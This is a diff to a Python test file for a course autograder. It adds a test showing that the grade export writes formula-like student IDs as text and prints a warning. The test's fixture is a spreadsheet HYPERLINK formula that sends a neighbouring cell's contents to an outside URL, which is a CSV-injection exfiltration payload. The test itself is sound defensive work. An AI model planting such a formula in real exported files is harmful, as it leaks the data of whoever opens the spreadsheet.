@@ -1,5 +1,6 @@
 """The command line: commands that only need to answer (help, a wrong lab, a wrong folder) answer at once (they
 never import nbgrader, whose import alone takes seconds); a course folder it may not write to is said plainly."""
+import csv
 import shlex
 import shutil
 import subprocess
@@ -304,3 +305,25 @@ def test_release_check_still_compares_release_with_source_when_the_gradebook_can
     assert out == f"{lab}: in sync with source/\n"
     assert err.startswith("note: the gradebook's tests are not compared with source/: The gradebook ") and \
         "cannot be opened: file is not a database" in err
+
+
+def test_a_student_id_a_spreadsheet_would_run_as_a_formula_is_exported_as_text_with_a_warning(tmp_path):
+    """A folder name from an LMS is the student's display name (Moodle): one that starts with = would be run by the
+    spreadsheet the instructor opens grades.csv in."""
+    from autograder.course import Course
+    from autograder.submissions import submit, untouched
+    from released import released_course
+    lab = "lab1_initialization"
+    course = released_course(Course(Path(__file__).resolve().parents[1]), tmp_path / "course", [lab])
+    hostile = '=HYPERLINK("https:example.com?"&A1,"ana")'  # a link that sends the cell next to it away
+    for student in (hostile, "ana", "-2+3"):
+        submit(course, student, lab, untouched(course, lab))
+    said = subprocess.run([sys.executable, "-m", "autograder", "--root", str(course.root), "export"],
+                          capture_output=True, text=True)
+    assert said.returncode == 0, said.stderr
+    with open(course.root / "grades.csv", newline="") as table:
+        ids = sorted(row["student_id"] for row in csv.DictReader(table))
+    assert ids == ["'-2+3", "'" + hostile, "ana"]
+    assert (f"warning: 2 student ids in grades.csv start with =, +, -, @ or a tab, which a spreadsheet would run as "
+            f"a formula: '-2+3', {hostile!r}. They are written with a ' in front, as text. Check these folder names "
+            "in submitted/ before you upload the table.") in said.stderr
